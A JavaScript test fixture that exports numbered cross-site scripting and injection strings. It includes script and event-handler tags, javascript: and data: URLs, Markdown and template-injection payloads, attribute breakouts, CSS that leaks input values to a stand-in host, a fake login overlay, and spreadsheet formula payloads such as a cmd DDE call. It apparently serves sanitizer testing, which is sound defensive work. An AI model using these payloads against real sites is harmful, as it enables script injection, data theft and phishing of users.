// Texts that would run something, if the pages took them for more than text. Each calls __ran with its number and
// carries the mark data-ran, so that markup which comes alive is found even where nothing runs.

const evil = "//evil.example";
const call = "__ran(N)";
const mark = "data-ran";

const tags = [
  `<script ${mark}>${call}</script>`, `<ScRiPt ${mark}>${call}</sCrIpT>`, `<script ${mark} src=${evil}/x.js></script>`, `<script/src=data:,${call} ${mark}></script>`,
  `<scr<script>ipt ${mark}>${call}</scr</script>ipt>`, `<script ${mark}\n>${call}</script\n>`, `<script ${mark} type=module>${call}</script>`, `<svg><script ${mark}>${call}</script></svg>`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${call}>">`, `<math><mtext><table><mglyph><style><img ${mark} src=x onerror=${call}>`, `<template ${mark}><script>${call}</script></template>`,
  `<base ${mark} href=${evil}/>`, `<meta ${mark} http-equiv=refresh content="0;url=${evil}/">`, `<link ${mark} rel=stylesheet href=${evil}/x.css>`, `<iframe ${mark} src=${evil}/></iframe>`,
  `<iframe ${mark} srcdoc="<script>parent.${call}</script>">`, `<object ${mark} data=${evil}/x.swf></object>`, `<embed ${mark} src=${evil}/x.svg>`, `<form ${mark} action=${evil}/><button>确定</button></form>`,
  `<img ${mark} src=${evil}/pixel.png>`, `<video ${mark} poster=${evil}/p.png></video>`, `<audio ${mark} src=${evil}/a.mp3 autoplay>`, `<input ${mark} type=image src=${evil}/p.png>`, `<bgsound ${mark} src=${evil}/a.mid>`,
  `<portal ${mark} src=${evil}/>`, `<dialog ${mark} open>重新登录<input type=password></dialog>`, `<plaintext ${mark}>`, `<xmp ${mark}><script>${call}</script>`, `<title ${mark}>x</title>`, `<!--><script ${mark}>${call}</script>-->`,
];

const handled = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["input autofocus", "onfocus"], ["details open", "ontoggle"], ["marquee", "onstart"],
  ["select autofocus", "onfocus"], ["textarea autofocus", "onfocus"], ["button autofocus", "onfocus"], ["a href=# autofocus", "onfocus"], ["div style=animation-name:x", "onanimationstart"], ["iframe src=about:blank", "onload"],
  ["link rel=stylesheet href=x", "onerror"], ["embed src=x", "onload"], ["object data=x", "onerror"], ["style", "onload"], ["picture><source srcset=x><img src=x", "onerror"], ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onend"], ["svg><image href=x", "onerror"], ["math><maction", "onclick"], ["isindex type=image src=1", "onerror"], ["keygen autofocus", "onfocus"], ["body", "onpageshow"], ["body", "onhashchange"],
  ["p", "onpointerenter"], ["p", "onmouseover"], ["div contenteditable autofocus", "onfocus"], ["x tabindex=1 autofocus", "onfocus"], ["video><source src=x", "onerror"], ["form><input formaction=javascript:0 autofocus", "onfocus"],
  ["img src=x loading=lazy", "onerror"], ["object", "onresize"], ["body", "onscroll"], ["div", "onbeforematch"], ["button popovertarget=x", "onclick"], ["dialog open", "onbeforetoggle"], ["track default src=x", "onerror"],
].flatMap(([tag, event]) => [`<${tag} ${mark} ${event}=${call}>`, `<${tag}/${mark}/${event.toUpperCase()} = "${call}"//`]);

const addresses = [
  "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:", "\\u006aavascript:", "javascript://%0a", "vbscript:", "livescript:",
  "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5fX3JhbigwKTwvc2NyaXB0Pg==#", "data:image/svg+xml,<svg onload=", "blob:", "file:///etc/passwd#", "\\\\evil.example\\x#", "view-source:javascript:", "feed:javascript:", "ｊavascript:",
].map((scheme) => `${scheme}${call}`);

const linked = [...addresses.slice(0, 14), `${evil}/`, `https:${evil}/`, "#/settings"].flatMap((at) => [`[点这里](${at})`, `![图](${at})`, `<${at}>`]);

const marked = [
  `[a](x "title" ${mark} onclick=${call})`, `![x](x"onerror="${call})`, `![x](${evil}/pixel.png)`, `[![x](${evil}/p.png)](javascript:${call})`, `[x]: javascript:${call}\n[x]`, `\`\`\`html\n<script ${mark}>${call}</script>\n\`\`\``,
  `\`<img ${mark} src=x onerror=${call}>\``, `# <img ${mark} src=x onerror=${call}>`, `> <svg ${mark} onload=${call}>`, `| <script ${mark}>${call}</script> | b |\n|---|---|\n| <img ${mark} src=x onerror=${call}> | [y](javascript:${call}) |`,
  `**<b ${mark} onmouseover=${call}>重点</b>**`, `- [ ] <input ${mark} autofocus onfocus=${call}>`, `[ref]\n\n[ref]: data:text/html,<script>${call}</script>`, `<details ${mark} open ontoggle=${call}>\n\ntext\n</details>`, `http://a/"onclick="${call}"`,
  `<https://a/"onmouseover="${call}>`, `*[x](javascript:${call})*`, `\\<script ${mark}>${call}\\</script>`, "~~~\n</pre><script>__ran(N)</script>\n~~~", `$$\\href{javascript:${call}}{x}$$`,
];

const templates = [
  `{{${call}}}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`, `{%${call}%}`, `[[${call}]]`, `{{constructor.constructor('${call}')()}}`, `{{$on.constructor('${call}')()}}`, `$t(common.save)`, `{{count}} $t(x, {"a":"${call}"})`, "{a} {b} {c} {@name} {value}",
  "{a|富文本}", `{b|<img ${mark} src=x onerror=${call}>}`, `\`-${call}-\``, `@(${call})`, `*{${call}}`, `~{${call}}`, `<#assign x=${call}>`, `{php}${call}{/php}`, "%s %d %n %x %%", `{"__proto__":{"ran":1}}`, "__proto__", "constructor", "toString", "hasOwnProperty", "prototype",
  "valueOf", "undefined", "null", "NaN", "[object Object]",
];

const broken = [
  `" ${mark} onmouseover=${call} x="`, `' ${mark} onfocus=${call} autofocus x='`, `\` ${mark} onclick=${call} \``, `"><img ${mark} src=x onerror=${call}>`, `'><img ${mark} src=x onerror=${call}>`, `--><img ${mark} src=x onerror=${call}>`, `]]><img ${mark} src=x onerror=${call}>`,
  `</textarea><img ${mark} src=x onerror=${call}>`, `</title><img ${mark} src=x onerror=${call}>`, `</script><img ${mark} src=x onerror=${call}>`, `</style><img ${mark} src=x onerror=${call}>`, `</select><img ${mark} src=x onerror=${call}>`, `</option></select><svg ${mark} onload=${call}>`,
  `</noscript><svg ${mark} onload=${call}>`, `</template><svg ${mark} onload=${call}>`, `</svg><img ${mark} src=x onerror=${call}>`, `*/${call}/*`, `';${call}//`, `";${call}//`, `\\";${call}//`, `\\';${call}//`, `\u2028${call}//`, `\u2029${call}//`, `</td></tr></table><img ${mark} src=x onerror=${call}>`,
  `x" style="animation-name:x" onanimationstart="${call}`, `"};${call};{"`, `');${call};('`, `\r\n\r\n<script ${mark}>${call}</script>`, `%0d%0a<script ${mark}>${call}</script>`, `"formaction=javascript:${call} x="`,
];

const styles = [
  `</style><style ${mark}>@import url(${evil}/x.css);</style>`, `<style ${mark}>*{background:url(${evil}/x)}</style>`, `<p ${mark} style=background:url(${evil}/x)>`, `background:url(${evil}/x)`, `url(${evil}/x)`, `red;background-image:url(https:${evil}/x)`, `expression(${call})`,
  `"};*{background:url(${evil}/x)}`, `<style ${mark}>@font-face{font-family:x;src:url(${evil}/f)}*{font-family:x}</style>`, `<div ${mark} style="position:fixed;inset:0;z-index:99999;background:#fff">请重新登录</div>`, `<link ${mark} rel=prefetch href=${evil}/x>`, `-moz-binding:url(${evil}/x)`, `<style ${mark}>input[value^=a]{background:url(${evil}/a)}</style>`, `var(--x,url(${evil}/x))`,
];

const coded = [
  `＜script＞${call}＜/script＞`, `﹤img src=x onerror=${call}﹥`, `&lt;script ${mark}&gt;${call}&lt;/script&gt;`, `&#60;img ${mark} src=x onerror=${call}&#62;`, `&#x3c;svg ${mark} onload=${call}&#x3e;`, `%3Cscript%20${mark}%3E${call}%3C/script%3E`, `%253Cscript%253E${call}%253C/script%253E`,
  `\\u003cimg ${mark} src=x onerror=${call}\\u003e`, `\\x3csvg ${mark} onload=${call}\\x3e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `<\u200bscript ${mark}>${call}</script>`, `<img\u00a0${mark}\u00a0src=x\u00a0onerror=${call}>`, `<img\u000c${mark}\u000csrc=x\u000conerror=${call}>`,
  `\u202e<tpircs>${call}`, `\u2066<img ${mark} src=x onerror=${call}>\u2069`, `<ſcript ${mark}>${call}</ſcript>`, `<ıframe ${mark} onload=${call}>`, `<sv\u0131 ${mark} onload=${call}>`, `\ufeff<img ${mark} src=x onerror=${call}>`, `<img ${mark} src=x on\u0065rror=${call}>`, "e\u0301".repeat(20), "\u0e49".repeat(30), "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(8), "\u{e0041}\u{e0042}",
];

const named = [
  `"><img ${mark} src=x onerror=${call}>.csv`, `<svg ${mark} onload=${call}>.xlsx`, `../../../${call}`, `x.html?<script ${mark}>${call}</script>`, `';${call};'.vcf`, `a#b?c&d=<img ${mark} src=x onerror=${call}>`, `CON`, `x\u202egpj.exe`, `=HYPERLINK("https:${evil}/","${call}")`, `=cmd|'/C calc'!A0`,
];

const all = { tags, handled, addresses, linked, marked, templates, broken, styles, coded, named };

const texts = [...new Set(Object.values(all).flat())];
const numbered = (text) => text.replaceAll("N)", `${texts.indexOf(text)})`);

/** The texts of every kind, each with its own number. */
export const payloads = texts.map(numbered);

/** The texts by their kind, for places that take few. */
export const kinds = Object.fromEntries(Object.entries(all).map(([kind, list]) => [kind, list.map(numbered)]));
